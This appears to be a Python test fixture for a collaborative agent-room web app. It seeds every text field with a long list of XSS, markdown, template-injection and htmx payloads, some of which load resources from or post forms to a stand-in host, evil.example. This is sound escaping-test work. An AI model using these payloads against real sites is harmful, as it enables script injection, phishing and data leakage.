"""Text that tries to become more than text, and the room it is written all over."""

from __future__ import annotations

from itertools import cycle

from agentroom.core.clock import db_now
from identity.models import Agent, Owner
from identity.names import name_key
from rooms.models import Invite, Member, Mention, Message, Notebook, Room
from tasks.models import Task, TaskRecord
from tests import factories

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre></div></main><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src=`javascript:alert(1)`>",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>click</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/leak)}</style>",
    "<form action=//evil.example><button>Sign in again</button></form>",
    "<button form=act formaction=//evil.example>Approve</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<a href=javascript:alert(1)>click</a>",
    '<a href="java\tscript:alert(1)">click</a>',
    "<a href=&#106;avascript:alert(1)>click</a>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<div hx-get=/rooms hx-trigger=load>x</div>",
    "<div data-hx-post=/agents hx-on:click=alert(1)>x</div>",
    "<div hx-vals='js:{a:alert(1)}' hx-trigger='load[alert(1)]'>x</div>",
    "<div data-live=task data-menu=//evil.example data-copy=#token>x</div>",
    "<dialog open data-key=m><p>Your session ended</p></dialog>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    'x" autofocus onfocus=alert(1) y="',
    "` onmouseover=alert(1) `",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x73;cript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '[a](https://ok.example "onclick=alert(1)" )',
    "[a](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "![pixel](https://evil.example/pixel.png)",
    "<javascript:alert(1)>",
    '<https://evil.example/"onmouseover=alert(1)>',
    "[ref]: javascript:alert(1)\n[ref]",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "> <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "{{ 7|add:7 }} {% load static %} ${7*7} #{7*7} <%= 7*7 %>",
    "{% endautoescape %}{% autoescape off %}<b>x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "a\u0000b".replace("\u0000", "\u200b") + "<script>alert(1)</script>",
    "javascript:alert(1)",
]


def furnish(room: Room, owner: Owner, agent: Agent, texts: list[str]) -> None:
    """Write each text into every place that shows text, past the operations that might refuse it."""
    one_line = cycle([text.replace("\n", " ") for text in texts])
    Owner.objects.filter(pk=owner.pk).update(name=next(one_line)[:64])
    for number, text in enumerate(texts):
        _task(room, owner, agent, text, number * 10)
        _talk(room, owner, agent, text, number + 1)
        _agent(room, owner, text, number)
    now = db_now()
    Member.objects.filter(room=room, owner=owner).update(mention_seq=len(texts))
    Room.objects.filter(pk=room.pk).update(
        name=next(one_line)[:64],
        document="\n\n".join(texts),
        message_seq=len(texts),
        workspace_path=next(one_line),
        workspace_url=next(one_line),
        workspace_branch=next(one_line),
    )
    Notebook.objects.filter(room=room).update(objective=next(one_line), updated_at=now)


def _task(room: Room, owner: Owner, agent: Agent, text: str, order: int) -> None:
    line = text.replace("\n", " ")[:200]
    for place, status in enumerate(("todo", "blocked", "done")):
        task = factories.make_task(
            room,
            line,
            creator=owner,
            assignee=agent,
            status=status,
            definition_of_done=text,
            detail=text,
            spec_ref=line,
            reason=line,
            order=order + place,
        )
        TaskRecord.objects.filter(task=task).update(
            summary=line, next=line, handoff_notes=text if status == "done" else "", artifacts=[line]
        )
    waiting = Task.objects.get(room=room, order=order)
    factories.make_task(room, line, creator=owner, depends_on=[waiting], order=order + 5)


def _talk(room: Room, owner: Owner, agent: Agent, text: str, seq: int) -> None:
    now = db_now()
    told = [{"human": owner.pk}]
    message = Message.objects.create(room=room, seq=seq, agent=agent, body=text, targets=told, created_at=now)
    Mention.objects.create(
        room=room,
        source=f"msg:{message.pk}",
        seq=seq,
        message=message,
        owner=owner,
        author_kind="agent",
        author_agent=agent,
        trust_level="untrusted",
        outcome="delivered",
        excerpt=text[:280],
        created_at=now,
    )


def _agent(room: Room, owner: Owner, text: str, number: int) -> None:
    other = factories.make_agent(owner, f"agent {number}")
    # The number first: lanes stand in the order of names, whatever follows.
    name = f"a{number:02} {text.replace(chr(10), ' ')}"[:64]
    Agent.objects.filter(pk=other.pk).update(name=name, name_key=name_key(name))
    factories.make_member(room, other)
    factories.make_credential(other, label=text.replace("\n", " ")[:64])
    Invite.objects.create(
        room=room,
        kind="human_email",
        target=text.replace("\n", " ")[:254],
        token_hash=other.pk.ljust(64, "0"),
        created_by=owner,
        created_at=db_now(),
        expires_at=db_now(),
    )
